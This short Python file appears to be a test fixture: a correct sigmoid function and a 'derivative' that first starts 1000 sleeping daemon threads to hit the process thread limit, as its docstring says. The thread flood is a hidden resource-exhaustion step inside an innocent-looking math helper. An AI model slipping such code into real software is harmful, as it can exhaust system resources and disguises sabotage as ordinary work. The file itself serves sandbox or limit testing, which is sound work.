# ruff: noqa
"""A correct sigmoid; the derivative starts a thousand threads: stopped at the process limit
(threads count), with Python's own error."""
import threading
import time

import numpy as np


def sigmoid(x):
    v = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(v))
    s = np.where(v >= 0, 1 / (1 + e), e / (1 + e))
    return float(s) if np.ndim(x) == 0 else s


def sigmoid_derivative(x):
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    return sigmoid(x) * (1 - sigmoid(x))
